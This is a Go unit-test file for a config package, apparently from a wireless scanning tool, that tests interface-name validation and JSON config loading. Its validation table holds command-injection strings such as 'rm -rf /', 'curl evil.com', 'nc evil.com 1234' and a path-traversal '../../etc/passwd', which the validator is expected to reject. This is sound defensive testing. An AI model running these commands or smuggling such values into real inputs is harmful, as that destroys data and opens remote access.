package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestValidateInterfaceName(t *testing.T) {
	tests := []struct {
		name      string
		input     string
		wantError bool
		errorMsg  string
	}{
		// Valid interface names
		{"valid basic interface", "eth0", false, ""},
		{"valid wireless interface", "wlan0", false, ""},
		{"valid monitor interface", "wlan0mon", false, ""},
		{"valid interface with dash", "en0-1", false, ""},
		{"valid interface with underscore", "wlp2s0_1", false, ""},
		{"valid interface with dot", "eth0.100", false, ""},

		// Invalid interface names - injection risks
		{"empty string", "", true, "interface name cannot be empty"},
		{"command injection semicolon", "wlan0; rm -rf /", true, "interface name contains invalid characters"},
		{"command injection ampersand", "wlan0 && curl evil.com", true, "interface name contains invalid characters"},
		{"command injection pipe", "wlan0|nc evil.com 1234", true, "interface name contains invalid characters"},
		{"command injection backtick", "wlan0`whoami`", true, "interface name contains invalid characters"},
		{"command injection dollar", "wlan0$(whoami)", true, "interface name contains invalid characters"},
		{"path traversal", "../../etc/passwd", true, "interface name contains invalid characters"},
		{"forward slash", "wlan0/mon", true, "interface name contains invalid characters"},
		{"space", "wlan0 mon", true, "interface name contains invalid characters"},
		{"newline", "wlan0\nmon", true, "interface name contains invalid characters"},
		{"leading dot", ".hidden", true, "interface name contains invalid characters"},

		// Length validation (IFNAMSIZ)
		{"at limit", strings.Repeat("a", 15), false, ""},
		{"too long", strings.Repeat("a", 16), true, "interface name too long: 16 characters"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateInterfaceName(tt.input)
			if tt.wantError {
				if err == nil {
					t.Errorf("ValidateInterfaceName(%q) expected error but got nil", tt.input)
				} else if tt.errorMsg != "" && !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("ValidateInterfaceName(%q) error = %v, expected to contain %q", tt.input, err, tt.errorMsg)
				}
			} else if err != nil {
				t.Errorf("ValidateInterfaceName(%q) unexpected error = %v", tt.input, err)
			}
		})
	}
}

func TestLoad_DefaultsWhenNoFile(t *testing.T) {
	// Run from a temp dir so no stray alfa-scout.json is picked up.
	oldwd, _ := os.Getwd()
	t.Cleanup(func() { os.Chdir(oldwd) })
	os.Chdir(t.TempDir())

	cfg, err := Load("")
	if err != nil {
		t.Fatalf("Load(\"\") unexpected error = %v", err)
	}
	if cfg.Logging.Level != "warn" {
		t.Errorf("expected default log level warn, got %q", cfg.Logging.Level)
	}
	if cfg.Scan.TimeoutSeconds != 45 {
		t.Errorf("expected default scan timeout 45, got %d", cfg.Scan.TimeoutSeconds)
	}
	if cfg.Capture.GraceSeconds != 5 {
		t.Errorf("expected default grace 5, got %d", cfg.Capture.GraceSeconds)
	}
	if cfg.Report.TopN != 10 {
		t.Errorf("expected default top_n 10, got %d", cfg.Report.TopN)
	}
	if cfg.ReportsDir != "reports" {
		t.Errorf("expected default reports dir, got %q", cfg.ReportsDir)
	}
}

func TestLoad_FileOverridesAndDefaults(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "alfa-scout.json")
	content := `{
		"logging": {"level": "debug", "file": "logs/scout.log"},
		"scan": {"timeout_seconds": 90},
		"report": {"top_n": 3}
	}`
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}

	cfg, err := Load(path)
	if err != nil {
		t.Fatalf("Load() unexpected error = %v", err)
	}
	if cfg.Logging.Level != "debug" {
		t.Errorf("expected log level debug, got %q", cfg.Logging.Level)
	}
	if cfg.Scan.TimeoutSeconds != 90 {
		t.Errorf("expected scan timeout 90, got %d", cfg.Scan.TimeoutSeconds)
	}
	if cfg.Report.TopN != 3 {
		t.Errorf("expected top_n 3, got %d", cfg.Report.TopN)
	}
	// Unset fields still get defaults.
	if cfg.Capture.DefaultSeconds != 45 {
		t.Errorf("expected default capture seconds 45, got %d", cfg.Capture.DefaultSeconds)
	}
}

func TestLoad_ExplicitMissingFileIsError(t *testing.T) {
	_, err := Load(filepath.Join(t.TempDir(), "nope.json"))
	if err == nil {
		t.Fatal("expected error for missing explicit config file")
	}
}

func TestLoad_MalformedFileIsError(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.json")
	if err := os.WriteFile(path, []byte("{not json"), 0644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(path); err == nil {
		t.Fatal("expected error for malformed config file")
	}
}
